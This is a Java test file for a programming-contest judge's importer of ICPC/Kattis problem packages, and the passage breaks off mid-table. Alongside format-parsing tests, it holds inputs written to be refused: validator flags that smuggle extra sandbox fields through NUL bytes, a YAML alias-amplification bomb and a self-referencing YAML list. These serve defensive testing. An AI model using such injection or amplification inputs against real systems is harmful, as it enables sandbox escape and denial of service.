package dev.judge.api.problem.importing.kattis;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import dev.judge.api.problem.LinearTime;
import dev.judge.api.problem.importing.archive.InvalidPackageException;
import dev.judge.api.problem.importing.archive.PackageArchive;
import dev.judge.api.problem.importing.polygon.TestPackages;
import dev.judge.contracts.Checker;
import dev.judge.contracts.JudgeRequest;
import dev.judge.contracts.TimeLimitInference;
import dev.judge.contracts.language.LanguageCatalog;

/**
 * Packages in the ICPC / Kattis problem package format, written here (tests/kattis: no third party's
 * package is copied into this repository), read as the format has them, and hand-broken ones refused
 * naming the file at fault.
 */
class KattisPackageTests {

    static final PackageArchive.Limits LIMITS = new PackageArchive.Limits(4 << 20, 1 << 20, 16 << 20, 100, 50);

    @TempDir
    Path folder;

    @Test
    void readsA2025PackageWithTheDefaultValidatorsFlagsAndItsSubmissionsByFolder() throws IOException {
        KattisPackage.Problem problem =
                read(zip(TestPackages.kattis("average"))).problem();

        assertThat(problem.version()).isEqualTo("2025-09");
        assertThat(problem.title()).isEqualTo("Average");
        assertThat((problem.timeLimitMs())).isEqualTo(500);
        assertThat(problem.memoryLimitMb()).isEqualTo(256);
        assertThat(problem.tests())
                .extracting(KattisPackage.Test::name)
                .containsExactly("sample/1", "secret/01-thirds", "secret/02-one", "secret/03-large");
        assertThat(problem.tests().getFirst().sample()).isTrue();
        assertThat(problem.judging().validator()).isNull();
        assertThat(problem.judging().tokens()).isEqualTo(new Checker.Tokens(false, false, 1e-6, 1e-6));
        assertThat(problem.inputValidators())
                .extracting(validator -> validator.program().language())
                .containsExactly("checktestdata", "python");
        assertThat(problem.submissions())
                .extracting(submission ->
                        submission.folder() + " " + submission.program().path() + " "
                                + submission.program().language())
                .as("the Python 2 one is not judged as Python 3")
                .containsExactly(
                        "accepted submissions/accepted/Main.java java",
                        "accepted submissions/accepted/average.cpp cpp",
                        "accepted submissions/accepted/average.py python",
                        "accepted submissions/accepted/modules/ python",
                        "run_time_error submissions/run_time_error/crash.py python",
                        "time_limit_exceeded submissions/time_limit_exceeded/spin.c c",
                        "wrong_answer submissions/wrong_answer/rounded.py python");
    }

    /** The format runs every input validator on every test: each is kept, in the order of their names. */
    @Test
    void keepsEveryInputValidatorInTheOrderOfTheirNames() throws IOException {
        Map<String, String> files = TestPackages.kattis("average");
        files.put("input_validators/b_even/even.c", "int main(void) { return 42; }\n");
        files.put("input_format_validators/a.cpp", "int main() { return 42; }\n");

        KattisPackage.Problem problem = read(zip(files)).problem();

        assertThat(problem.inputValidators())
                .extracting(validator ->
                        validator.program().path() + " " + validator.program().language())
                .containsExactly(
                        "input_validators/b_even/ c",
                        "input_validators/format.ctd checktestdata",
                        "input_validators/validate.py python",
                        "input_format_validators/a.cpp cpp");
    }

    /**
     * Each test's arguments for each input validator, from its nearest folder that gives them: a list for
     * every validator or a map by name (2025-09), a string or legacy's name and flags (problemtools'
     * oddecho writes input_validator_flags: nFive=1 in a group). Tests whose folders give none get none.
     */
    @Test
    void givesEachInputValidatorTheArgumentsOfEachTestsNearestFolder() throws IOException {
        Map<String, String> files = TestPackages.kattis("average");
        files.put("input_validators/limits/limits.c", "int main(void) { return 42; }\n");
        files.put("data/test_group.yaml", "input_validator_args: [--everywhere]\n");
        files.put("data/secret/test_group.yaml", "input_validator_args: {limits: [--max, '10']}\n");
        files.put("data/secret/03-large.yaml", "input_validator_args: {limits: [--max, '1000000']}\n");
        Map<String, String> legacy = TestPackages.kattis("average");
        legacy.put("data/secret/testdata.yaml", "input_validator_flags: {name: validate, flags: nFive=1}\n");
        legacy.put("data/sample/testdata.yaml", "input_validator_flags: nFive=0 strict\n");

        List<KattisPackage.InputValidator> given = read(zip(files)).problem().inputValidators();
        List<KattisPackage.InputValidator> legacyGiven =
                read(zip(legacy)).problem().inputValidators();

        // Tests: 1 sample/1, 2-4 secret/* (4 is 03-large, whose own yaml says more). Validators in the order of
        // their names: format.ctd, limits/, validate.py.
        assertThat(given.get(1).testArguments())
                .isEqualTo(Map.of(
                        1,
                        List.of("--everywhere"),
                        2,
                        List.of("--max", "10"),
                        3,
                        List.of("--max", "10"),
                        4,
                        List.of("--max", "1000000")));
        assertThat(List.of(given.get(0).testArguments(), given.get(2).testArguments()))
                .as("not in secret's map: none")
                .containsOnly(Map.of(1, List.of("--everywhere")));
        assertThat(legacyGiven.get(1).testArguments())
                .isEqualTo(Map.of(
                        1,
                        List.of("nFive=0", "strict"),
                        2,
                        List.of("nFive=1"),
                        3,
                        List.of("nFive=1"),
                        4,
                        List.of("nFive=1")));
    }

    /**
     * A checktestdata script (average's format.ctd) is an input validator in the catalog's checktestdata; as
     * a submission, it is listed, not judged, with why.
     */
    @Test
    void aChecktestdataScriptIsAnInputValidatorAndNoSubmission() throws IOException {
        Map<String, String> files = TestPackages.kattis("average");
        files.put("submissions/accepted/valid.ctd", "EOF\n");

        KattisPackage.Problem problem = read(zip(files)).problem();

        assertThat(problem.inputValidators())
                .extracting(validator ->
                        validator.program().path() + " " + validator.program().language())
                .containsExactly("input_validators/format.ctd checktestdata", "input_validators/validate.py python");
        assertThat(problem.submissions())
                .noneMatch(submission -> submission.program().path().endsWith(".ctd"));
        assertThat(problem.notJudged())
                .contains(new KattisPackage.NotJudged(
                        "accepted",
                        "submissions/accepted/valid.ctd",
                        "its language, checktestdata, is for input validators alone"));
    }

    /**
     * A .py without a shebang that only Python 2 reads (packages from before 2020 hold them) is listed as
     * Python 2, not judged as Python 3 to fail: a print or exec statement, except E, e:, raise E, "why".
     * Python 3 with lookalikes (a docstring's words, print with a space before its parenthesis, a comment,
     * strings) is judged.
     */
    @Test
    void aPython2SubmissionWithoutItsShebangIsListedAndPython3WithLookalikesIsJudged() throws IOException {
        Map<String, String> files = TestPackages.kattis("average");
        files.put("submissions/accepted/old.py", "n = int(raw_input())\nif n:\n    print sum(range(n)) / n\n");
        files.put(
                "submissions/run_time_error/caught.py",
                "try:\n    x = 1 / 0\nexcept ZeroDivisionError, e:\n    raise\n");
        files.put("submissions/wrong_answer/reraise.py", "raise ValueError, 'no'\n");
        files.put("submissions/wrong_answer/modern.py", """
                \"""Reads n,
                print n and more
                \"""
                print (1)  # print 2
                print(-1)
                s = 'print 3'
                x = '''
                exec code
                '''
                print(s, x)
                """);
        String python2 =
                "it is Python 2 (its line %d is a statement only Python 2 reads), which this judge does not run";

        KattisPackage.Problem problem = read(zip(files)).problem();

        assertThat(problem.notJudged())
                .extracting(KattisPackage.NotJudged::path, KattisPackage.NotJudged::reason)
                .contains(
                        org.assertj.core.groups.Tuple.tuple("submissions/accepted/old.py", python2.formatted(3)),
                        org.assertj.core.groups.Tuple.tuple(
                                "submissions/run_time_error/caught.py", python2.formatted(3)),
                        org.assertj.core.groups.Tuple.tuple(
                                "submissions/wrong_answer/reraise.py", python2.formatted(1)));
        assertThat(problem.submissions())
                .extracting(submission -> submission.program().path())
                .contains("submissions/wrong_answer/modern.py")
                .doesNotContain("submissions/accepted/old.py");
    }

    /**
     * A submission of several files (a folder): its entry point the format's default for its language
     * (Python's main.py, Java's Main.java), or its one source, or for C++ (which compiles every source) its
     * main.*; saved as the language's source file, the rest beside it. One the format gives no entry point
     * for, one mixing languages, or one with a file named as the judge's own, is listed with why.
     */
    @Test
    void aFolderSubmissionIsBuiltFromItsEntryPointByTheFormatsRuleAndTheRestBesideIt() throws IOException {
        Map<String, String> files = TestPackages.kattis("average");
        files.put("submissions/accepted/modular/main.py", "from util import mean\nprint(mean())\n");
        files.put("submissions/accepted/modular/util.py", "def mean(): ...\n");
        files.put("submissions/accepted/classes/Main.java", "public class Main {}\n");
        files.put("submissions/accepted/classes/Mean.java", "class Mean {}\n");
        files.put("submissions/accepted/units/mean.cpp", "double mean();\n");
        files.put("submissions/accepted/units/main.cpp", "int main() {}\n");
        files.put("submissions/accepted/units/mean.h", "double mean();\n");
        files.put("submissions/accepted/header/solve.c", "int main(void) {}\n");
        files.put("submissions/accepted/header/solve.h", "\n");
        files.put("submissions/wrong_answer/crates/a.rs", "fn main() {}\n");
        files.put("submissions/wrong_answer/crates/b.rs", "fn helper() {}\n");
        files.put("submissions/wrong_answer/mixed/main.py", "print(1)\n");
        files.put("submissions/wrong_answer/mixed/Main.java", "class Main {}\n");
        files.put("submissions/wrong_answer/reserved/main.py", "print(open('input').read())\n");
        files.put("submissions/wrong_answer/reserved/input", "1\n");
        files.put("submissions/wrong_answer/old/main.py", "from util import mean\nprint mean()\n");
        files.put("submissions/wrong_answer/old/util.py", "def mean(): return 1\n");

        KattisPackage.Problem problem = read(zip(files)).problem();

        assertThat(problem.submissions())
                .filteredOn(submission -> submission.program().path().endsWith("/"))
                .extracting(submission ->
                        submission.program().path() + " " + submission.program().language() + " "
                                + submission.program().files().keySet())
                .containsExactly(
                        "submissions/accepted/classes/ java [Mean.java]",
                        "submissions/accepted/header/ c [solve.h]",
                        "submissions/accepted/modular/ python [util.py]",
                        "submissions/accepted/modules/ python [stats.py]",
                        "submissions/accepted/units/ cpp [mean.cpp, mean.h]");
        assertThat(problem.submissions().stream()
                        .filter(submission -> submission.program().path().endsWith("/units/"))
                        .findFirst()
                        .orElseThrow()
                        .program()
                        .sourceCode())
                .isEqualTo("int main() {}\n");
        assertThat(problem.notJudged())
                .extracting(KattisPackage.NotJudged::path, KattisPackage.NotJudged::reason)
                .contains(
                        org.assertj.core.groups.Tuple.tuple(
                                "submissions/wrong_answer/crates/",
                                "it has several sources and no entry point the format names for rust (none)"),
                        org.assertj.core.groups.Tuple.tuple(
                                "submissions/wrong_answer/mixed/",
                                "its sources are in several languages [java, python]"),
                        org.assertj.core.groups.Tuple.tuple(
                                "submissions/wrong_answer/old/",
                                "it is Python 2 (its line 2 is a statement only Python 2 reads), which this judge "
                                        + "does not run"));
        assertThat(problem.notJudged()).anySatisfy(skipped -> {
            assertThat(skipped.path()).isEqualTo("submissions/wrong_answer/reserved/");
            assertThat(skipped.reason()).startsWith("input: ");
        });
    }

    @Test
    void readsALegacyInteractivePackageInItsTopFolderWithDomjudgesTimeLimit() throws IOException {
        Map<String, String> files = new TreeMap<>();
        TestPackages.kattis("guess").forEach((path, content) -> files.put("guess/" + path, content));

        KattisPackage.Problem problem = read(zip(files)).problem();

        assertThat(problem.title()).isEqualTo("Guess the Number");
        assertThat(problem.timeLimitMs()).isEqualTo(2000);
        assertThat(problem.judging().interactive()).isTrue();
        assertThat(problem.judging().validator().language()).isEqualTo("c");
        assertThat(problem.judging().validator().files()).containsOnlyKeys("README");
        assertThat(problem.tests()).hasSize(4);
        assertThat(problem.submissions().getFirst().program().path()).isEqualTo("submissions/accepted/binary.py");
    }

    @Test
    void readsACustomValidatorWithItsFlagsAndTestsInSubfolders() throws IOException {
        KattisPackage.Problem problem = read(zip(TestPackages.kattis("split"))).problem();

        assertThat(problem.judging().validator().path()).isEqualTo("output_validators/split_validator.py");
        assertThat(problem.judging().arguments()).containsExactly("max", "1000000000");
        assertThat(problem.judging().tokens()).isNull();
        assertThat(problem.tests())
                .extracting(KattisPackage.Test::name)
                .containsExactly("sample/1", "secret/large/1", "secret/small/1", "secret/small/2");
    }

    /** DOMjudge's dialect of legacy: a multi-pass problem is "validation: custom multi-pass", its passes in limits. */
    @Test
    void readsALegacyMultiPassProblemAsDomjudgeWritesIt() throws IOException {
        Map<String, String> split = TestPackages.kattis("split");
        split.put(
                "problem.yaml",
                split.get("problem.yaml").replace("validation: custom\n", "validation: custom multi-pass\n")
                        + "  validation_passes: 3\n");

        KattisPackage.Judging judging = read(zip(split)).problem().judging();

        assertThat(judging.passes()).isEqualTo(3);
        assertThat(judging.interactive()).isFalse();
        assertThat(judging.validator().path()).isEqualTo("output_validators/split_validator.py");
    }

    /** Without a time limit, the format's multipliers say how its preparation infers one; the submissions are read for it. */
    @Test
    void aPackageWithoutATimeLimitHasItInferredByTheFormatsMultipliers() throws IOException {
        Map<String, String> current = TestPackages.kattis("average");
        current.put(
                "problem.yaml",
                current.get("problem.yaml")
                        .replace(
                                "  time_limit: 0.5\n",
                                "  time_multipliers:\n    ac_to_time_limit: 3\n  time_resolution: 0.5\n"));
        Map<String, String> legacy = new TreeMap<>(TestPackages.kattis("guess"));
        legacy.remove(".timelimit");

        KattisPackage.Problem inferred = readWithoutSubmissions(zip(current));
        KattisPackage.Problem legacyInferred = readWithoutSubmissions(zip(legacy));

        assertThat(inferred.timeLimitMs()).isNull();
        assertThat(inferred.timeLimitInference()).isEqualTo(new TimeLimitInference(3, 1.5, 500));
        assertThat(inferred.submissions())
                .as("read to time them, verified or not")
                .hasSize(7);
        assertThat(legacyInferred.timeLimitInference()).isEqualTo(new TimeLimitInference(5, 2, 1000));
        assertThat(read(zip(TestPackages.kattis("average"))).problem().timeLimitInference())
                .isNull();
    }

    /**
     * An archive converted to the format, with no time limit and no submissions to infer one from: refused,
     * saying how to give one; with the import's limit it is that, and nothing is inferred. A package's own
     * limit stands: the import's, if it differs, is refused rather than silently dropped.
     */
    @Test
    void theImportsTimeLimitIsForAPackageThatGivesNone() throws IOException {
        Map<String, String> converted = new TreeMap<>(TestPackages.kattis("split"));
        converted.keySet().removeIf(path -> path.startsWith("submissions/") || path.equals(".timelimit"));
        Path zip = zip(converted);
        Path ownLimit = zip(TestPackages.kattis("average"));

        assertThatThrownBy(() -> readWithoutSubmissions(zip))
                .isInstanceOf(InvalidPackageException.class)
                .hasMessageContaining("give the import's timeLimitMs");
        KattisPackage.Problem given = readWithoutSubmissions(zip, 1500);
        assertThat(given.timeLimitMs()).isEqualTo(1500);
        assertThat(given.timeLimitInference()).isNull();
        assertThat(readWithoutSubmissions(ownLimit, 500).timeLimitMs()).isEqualTo(500);
        assertThatThrownBy(() -> readWithoutSubmissions(ownLimit, 1500))
                .isInstanceOf(InvalidPackageException.class)
                .hasMessageContaining("its time limit is 500 ms; the import's timeLimitMs (1500)");
    }

    /**
     * A 2025-09 scoring problem: the samples a group worth nothing, each test data group by its
     * max_score and score_aggregation (min: the group as a whole; sum: each test its share) and its
     * require_pass; include/cpp/ goes with C++ submissions only; a Java class not called Main gets a Main
     * that calls it; a Python 2 submission is listed as not judged, with why.
     */
    @Test
    void readsAScoringPackagesGroupsIncludesAndSubmissions() throws IOException {
        KattisPackage.Problem problem = read(zip(TestPackages.kattis("double"))).problem();

        assertThat(problem.groups())
                .containsExactly(
                        new JudgeRequest.Group("sample", 0, List.of()),
                        new JudgeRequest.Group("1-small", 40, List.of()),
                        JudgeRequest.Group.eachTest("2-large", List.of(30.0, 30.0), List.of("1-small")));
        assertThat(problem.tests())
                .extracting(test -> test.name() + " " + test.group())
                .containsExactly(
                        "sample/1 sample",
                        "secret/1-small/1 1-small",
                        "secret/1-small/2 1-small",
                        "secret/2-large/1 2-large",
                        "secret/2-large/2 2-large");
        assertThat(problem.graders().get("cpp")).containsOnlyKeys("io.h");
        assertThat(problem.graders().get("cpp17"))
                .as("C++ of any standard is the format's cpp")
                .containsOnlyKeys("io.h");
        assertThat(problem.graders().get("c"))
                .as("nothing goes with C, which may still be submitted")
                .isEmpty();
        KattisPackage.Program java = problem.submissions().stream()
                .map(KattisPackage.Submission::program)
                .filter(program -> program.language().equals("java"))
                .findFirst()
                .orElseThrow();
        assertThat(java.files()).containsOnlyKeys("Twice.java");
        assertThat(java.sourceCode()).contains("public class Main").contains("Twice.main(args)");
        assertThat(problem.notJudged())
                .contains(new KattisPackage.NotJudged(
                        "accepted",
                        "submissions/accepted/twice.py",
                        "it is Python 2 (its first line says so), which this judge does not run"));
    }

    /**
     * 2025-09's constants: each {{name}} problem.yaml defines is filled into the input validators, the
     * output validator, the included files, the example submissions and test_group.yaml (tests/kattis/average
     * gives its bounds and tolerance so); a float as the package writes it; not into test data; a name it
     * does not define, and {{name}} inside a value, stay as written (one pass).
     */
    @Test
    void fillsProblemYamlsConstantsIntoTheFilesTheFormatSaysAndNowhereElse() throws IOException {
        Map<String, String> files = TestPackages.kattis("average");
        files.put("problem.yaml", files.get("problem.yaml") + "  precise: 1.0e-9\n  label: \"n is {{max_n}}\"\n");
        files.put("output_validator/check.py", "MAX = {{max_value}}  # {{undefined}}\nLABEL = '{{label}}'\n");
        files.put("include/cpp/bounds.h", "const double PRECISE = {{precise}};\n");
        files.put("data/secret/04-braces.in", "1\n{{max_n}}\n");
        files.put("data/secret/04-braces.ans", "{{max_n}}\n");

        try (KattisPackage opened = KattisPackage.open(
                PackageArchive.open(zip(files), LIMITS), "", LanguageCatalog.shipped(), true, null)) {
            KattisPackage.Problem problem = opened.problem();

            assertThat(problem.inputValidators().get(1).program().sourceCode())
                    .contains("1 <= n <= 100000 and")
                    .contains("all(1 <= x <= 1000000 for x");
            assertThat(problem.judging().validator().sourceCode())
                    .isEqualTo("MAX = 1000000  # {{undefined}}\nLABEL = 'n is {{max_n}}'\n");
            assertThat(problem.graders().get("cpp")).containsEntry("bounds.h", "const double PRECISE = 1.0e-9;\n");
            assertThat(problem.submissions().stream()
                            .filter(submission -> submission.program().path().endsWith("average.cpp"))
                            .findFirst()
                            .orElseThrow()
                            .program()
                            .sourceCode())
                    .contains("static int values[100000];");
            assertThat(problem.judging().arguments()).containsExactly("float_tolerance", "1e-6");
            KattisPackage.Test braces = problem.tests().getLast();
            assertThat(new String(opened.testFile(braces.input()), java.nio.charset.StandardCharsets.UTF_8))
                    .isEqualTo("1\n{{max_n}}\n");
        }
    }

    /**
     * 2025-09's languages: the catalog's languages of the codes it lists are the problem's (a code this
     * judge has no language for passed over); example submissions in others are listed as not judged, as
     * the format would not run them, never judged wrong.
     */
    @Test
    void takesTheLanguagesProblemYamlListsAndListsSubmissionsInOthersAsNotJudged() throws IOException {
        Map<String, String> files = TestPackages.kattis("average");
        files.put("problem.yaml", files.get("problem.yaml") + "languages: [python3, cpp, algol68]\n");

        KattisPackage.Problem problem = read(zip(files)).problem();

        assertThat(problem.languages()).contains("python", "cpp").doesNotContain("java", "c");
        assertThat(problem.submissions())
                .extracting(submission -> submission.program().path())
                .containsExactly(
                        "submissions/accepted/average.cpp",
                        "submissions/accepted/average.py",
                        "submissions/accepted/modules/",
                        "submissions/run_time_error/crash.py",
                        "submissions/wrong_answer/rounded.py");
        assertThat(problem.notJudged())
                .contains(
                        new KattisPackage.NotJudged(
                                "accepted",
                                "submissions/accepted/Main.java",
                                "its language, java, is not one of problem.yaml's languages"),
                        new KattisPackage.NotJudged(
                                "time_limit_exceeded",
                                "submissions/time_limit_exceeded/spin.c",
                                "its language, c, is not one of problem.yaml's languages"));
        assertThat(read(zip(TestPackages.kattis("average"))).problem().languages())
                .as("all, when it lists none")
                .isEmpty();
    }

    /**
     * What constants make of a file is bounded as what is read from the zip: a file grown past a program's
     * most is refused naming it (413), and growth across files counts as the package's unpacked bytes, so
     * that a few bytes of {{big}} in each of many files cannot hold more than the package could.
     */
    @Test
    void constantsCannotMakeThePackageLargerThanItCouldBe() throws IOException {
        String big = "x".repeat(100_000);
        Map<String, String> many = TestPackages.kattis("average");
        many.put("problem.yaml", many.get("problem.yaml") + "  big: " + big + "\n");
        for (int submission = 0; submission < 20; submission++) {
            many.put("submissions/wrong_answer/w" + submission + ".py", "# {{big}}\n".repeat(9));
        }

        assertThatThrownBy(() -> read(zip(many))).isInstanceOfSatisfying(InvalidPackageException.class, refused -> {
            assertThat(refused.tooLarge()).isTrue();
            assertThat(refused.getMessage()).contains("the package is over " + LIMITS.maxUnpackedBytes() + " bytes");
        });
    }

    /**
     * A legacy scoring problem as problem setters' tools write them (Kattis' and the olympiads'): the
     * root ignores the samples and continues past a rejection, each group is worth its accept_score as a
     * whole (grader_flags: min, range 0 score); secret's on_reject: break instead makes each group need
     * those before it; a group summing its tests with on_reject: continue gives each its accept_score.
     */
    @Test
    void readsALegacyScoringProblemAsItsTestdataYamlSays() throws IOException {
        Map<String, String> files = legacyScoring("on_reject: continue\n");
        files.put(
                "data/secret/g2/testdata.yaml",
                "on_reject: continue\naccept_score: 30\nrange: 0 60\ngrader_flags: sum\n");

        assertThat(read(zip(files)).problem().groups())
                .containsExactly(
                        new JudgeRequest.Group("sample", 0, List.of()),
                        new JudgeRequest.Group("g1", 40, List.of()),
                        JudgeRequest.Group.eachTest("g2", List.of(30.0, 30.0), List.of()));
        assertThat(read(zip(legacyScoring("on_reject: break\n"))).problem().groups())
                .extracting(JudgeRequest.Group::name, JudgeRequest.Group::dependsOn)
                .containsExactly(
                        org.assertj.core.groups.Tuple.tuple("sample", List.of()),
                        org.assertj.core.groups.Tuple.tuple("g1", List.of()),
                        org.assertj.core.groups.Tuple.tuple("g2", List.of("g1")));
    }

    /**
     * A 2023-07 draft package that still writes legacy's scoring keys and no draft scoring map (problemtools'
     * own oddecho example does) scores as legacy; one that gives the draft's map is read by it alone.
     */
    @Test
    void readsADraftPackageWithLegacysScoringKeysAsLegacy() throws IOException {
        Map<String, String> draft = legacyScoring("on_reject: continue\n");
        draft.put("problem.yaml", draft.get("problem.yaml").replace("legacy", "2023-07-draft"));
        Map<String, String> mapped = new TreeMap<>(draft);
        mapped.put("data/secret/g1/testdata.yaml", "scoring:\n  score: 50\n  aggregation: min\n");
        mapped.put("data/secret/g2/testdata.yaml", "scoring:\n  score: 50\n  aggregation: min\n");

        assertThat(read(zip(draft)).problem().groups())
                .extracting(JudgeRequest.Group::name, JudgeRequest.Group::points)
                .containsExactly(
                        org.assertj.core.groups.Tuple.tuple("sample", 0.0),
                        org.assertj.core.groups.Tuple.tuple("g1", 40.0),
                        org.assertj.core.groups.Tuple.tuple("g2", 60.0));
        assertThat(read(zip(mapped)).problem().groups())
                .extracting(JudgeRequest.Group::name, JudgeRequest.Group::points)
                .containsExactly(
                        org.assertj.core.groups.Tuple.tuple("sample", 0.0),
                        org.assertj.core.groups.Tuple.tuple("g1", 50.0),
                        org.assertj.core.groups.Tuple.tuple("g2", 50.0));
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            a sum cut short at the first rejection | data/secret/g2/testdata.yaml | on_reject: break\\naccept_score: 30\\ngrader_flags: sum\\n | data/secret/g2/ | up to the first rejected one
            a custom grader                        | data/secret/g2/testdata.yaml | grading: custom\\n                                         | data/secret/g2/ | graders
            samples that score                     | data/sample/testdata.yaml    | accept_score: 1\\n                                        | data/           | its samples would score
            a score below nothing                  | data/secret/g2/testdata.yaml | range: 5 60\\ngrader_flags: min\\n                         | data/secret/g2/ | starts at 5
            groups worth more than secret's range  | data/secret/testdata.yaml    | on_reject: continue\\nrange: 0 50\\n                       | data/secret/    | over its range's 50
            a range that is not a number           | data/secret/g2/testdata.yaml | range: 0 NaN\\ngrader_flags: min\\n                       | data/secret/g2/ | "NaN", which is not a number
            """)
    void refusesLegacyScoringItCannotMap(String why, String file, String content, String named, String reason)
            throws IOException {
        Map<String, String> files = legacyScoring("on_reject: continue\n");
        files.put(file, content.replace("\\n", "\n"));

        assertThatThrownBy(() -> read(zip(files))).isInstanceOfSatisfying(InvalidPackageException.class, refused -> {
            assertThat(refused.file()).isEqualTo(named);
            assertThat(refused.getMessage()).contains(reason);
        });
    }

    /** The average package made a legacy scoring one: groups g1 (one test, 40) and g2 (two tests, 60). */
    private static Map<String, String> legacyScoring(String secretOnReject) throws IOException {
        Map<String, String> files = TestPackages.kattis("average");
        files.put(
                "problem.yaml",
                "problem_format_version: legacy\ntype: scoring\nname: Average\nlimits:\n  time_limit: 0.5\n"
                        + "validator_flags: float_tolerance 1e-6\n");
        files.keySet().removeIf(path -> path.endsWith("test_group.yaml"));
        files.put("data/testdata.yaml", "on_reject: continue\nrange: 0 100\n");
        files.put("data/sample/testdata.yaml", "on_reject: continue\nrange: 0 0\naccept_score: 0\n");
        files.put("data/secret/testdata.yaml", secretOnReject + "range: 0 100\ngrader_flags: first_error\n");
        for (String test : List.of("01-thirds", "02-one", "03-large")) {
            String group = test.startsWith("01") ? "g1" : "g2";
            for (String ending : List.of(".in", ".ans")) {
                files.put("data/secret/" + group + "/" + test + ending, files.remove("data/secret/" + test + ending));
            }
        }
        files.put(
                "data/secret/g1/testdata.yaml", "on_reject: break\naccept_score: 40\nrange: 0 40\ngrader_flags: min\n");
        files.put(
                "data/secret/g2/testdata.yaml", "on_reject: break\naccept_score: 60\nrange: 0 60\ngrader_flags: min\n");
        return files;
    }

    /**
     * judge-init's requests are NUL-separated fields: a NUL in a validator's flag once ended its field and
     * made the rest fields of the request's own ({@code x\0env=...\0nofile=77} gave the validator an
     * environment variable and a descriptor limit of the setter's choosing). Refused at import, for the
     * output validator as for the input validators; YAML writes a NUL as {@code "\0"}.
     */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            the output validator's flags      | problem.yaml              | validator_flags: "x\\0env=HOME=/\\0nofile=77"
            a group's output validator flags  | data/secret/testdata.yaml | output_validator_flags: "x\\0nproc=4096"
            a group's input validator flags   | data/secret/testdata.yaml | input_validator_flags: "x\\0disk_bytes=0"
            """)
    void refusesValidatorFlagsThatCouldAddFieldsToTheSandboxsRequests(String why, String file, String line)
            throws IOException {
        Map<String, String> files = legacyScoring("on_reject: continue\n");
        files.put("problem.yaml", files.get("problem.yaml").replace("validator_flags: float_tolerance 1e-6\n", ""));
        files.merge(file, line + "\n", String::concat);

        assertThatThrownBy(() -> read(zip(files))).isInstanceOfSatisfying(InvalidPackageException.class, refused -> {
            assertThat(refused.getMessage()).contains("holds a NUL or a line break");
        });
    }

    /**
     * A YAML file whose aliases repeat a scalar (SnakeYAML bounds only collections' aliases: 429 bytes once
     * built 8.4 MB), and one whose list holds itself (once a StackOverflowError, a 500): both refused
     * naming the file, in time linear in its size.
     */
    @Test
    void refusesYamlWhoseAliasesMultiplyOrHoldThemselves() throws IOException {
        Map<String, String> amplified = TestPackages.kattis("average");
        amplified.put(
                "problem.yaml",
                amplified.get("problem.yaml") + "x: &big \"" + "8".repeat(8192) + "\"\ny: ["
                        + String.join(", ", java.util.Collections.nCopies(1024, "*big")) + "]\n");
        Map<String, String> cyclic = TestPackages.kattis("average");
        cyclic.put("problem.yaml", cyclic.get("problem.yaml") + "x: &self [1, *self]\n");

        assertThatThrownBy(() -> read(zip(amplified)))
                .isInstanceOfSatisfying(InvalidPackageException.class, refused -> {
                    assertThat(refused.file()).isEqualTo("problem.yaml");
                    assertThat(refused.getMessage()).contains("over 20 aliases");
                });
        assertThatThrownBy(() -> read(zip(cyclic))).isInstanceOfSatisfying(InvalidPackageException.class, refused -> {
            assertThat(refused.file()).isEqualTo("problem.yaml");
            assertThat(refused.getMessage()).contains("(*self) is inside what it names");
        });
    }

    /** PostgreSQL's text refuses U+0000: a NUL in a title or an include/ file was a 500, now a 400 naming it. */
    @Test
    void refusesANulInTextItWouldStore() throws IOException {
        Map<String, String> titled = TestPackages.kattis("average");
        titled.put("problem.yaml", titled.get("problem.yaml").replace("name: Average", "name: \"A\\0B\""));
        Map<String, String> included = TestPackages.kattis("average");
        included.put("include/python3/helper.py", "X = 1\u0000\n");

        assertThatThrownBy(() -> read(zip(titled)))
                .isInstanceOf(InvalidPackageException.class)
                .hasMessageContaining("its name holds a NUL");
        assertThatThrownBy(() -> read(zip(included))).isInstanceOfSatisfying(InvalidPackageException.class, refused -> {
            assertThat(refused.file()).isEqualTo("include/python3/helper.py");
            assertThat(refused.getMessage()).contains("NUL");
        });
    }

    /** 2025-09's output_validator/ is the program's folder; 2023-07-draft packages hold the program's folder in it. */
    @Test
    void readsTheOutputValidatorFolderOfEitherLayout() throws IOException {
        Map<String, String> own = TestPackages.kattis("split");
        String validator = own.remove("output_validators/split_validator.py");
        Map<String, String> program = new TreeMap<>(own);
        program.put("output_validator/validator.py", validator);
        Map<String, String> folder = new TreeMap<>(own);
        folder.put("output_validator/split_validator/validator.py", validator);
        folder.put("output_validator/split_validator/validate.h", "// a header beside it\n");

        assertThat(read(zip(program)).problem().judging().validator().sourceCode())
                .isEqualTo(validator);
        assertThat(read(zip(folder)).problem().judging().validator().files()).containsOnlyKeys("validate.h");
    }

    @Test
    void theDefaultValidatorsFlagsAreReadAsTheFormatDefinesThem() {
        assertThat(KattisPackage.defaultValidator(List.of())).isEqualTo(Checker.Tokens.DEFAULT);
        assertThat(KattisPackage.defaultValidator(
                        List.of("case_sensitive", "space_change_sensitive", "float_relative_tolerance", "1e-4")))
                .isEqualTo(new Checker.Tokens(true, true, null, 1e-4));
        assertThatThrownBy(() -> KattisPackage.defaultValidator(
                        List.of("float_tolerance", "1e-6", "float_absolute_tolerance", "1")))
                .hasMessageContaining("given twice");
        assertThatThrownBy(() -> KattisPackage.defaultValidator(List.of("float_tolerance", "NaN")))
                .hasMessageContaining("not a number");
        assertThatThrownBy(() -> KattisPackage.defaultValidator(List.of("ignore_case")))
                .hasMessageContaining("no flag \"ignore_case\"");
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', textBlock = """
            a YAML bomb of aliases                         | problem.yaml                    | over 20 aliases
            a YAML tag that would make a Java object       | problem.yaml                    | not YAML this judge reads
            a key given twice                              | problem.yaml                    | not YAML this judge reads
            a version this judge does not read             | problem.yaml                    | problem_format_version
            a scoring problem that is also interactive     | problem.yaml                    | scoring problem that is also
            a scoring group without its max_score          | data/secret/g1/                 | gives no max_score
            scoring groups worth more than secret          | data/secret/                    | add up to 150, over secret's 100
            a scoring group requiring a later one          | data/secret/g1/                 | not a group before it
            an unbounded scoring group                     | data/secret/g1/                 | unbounded
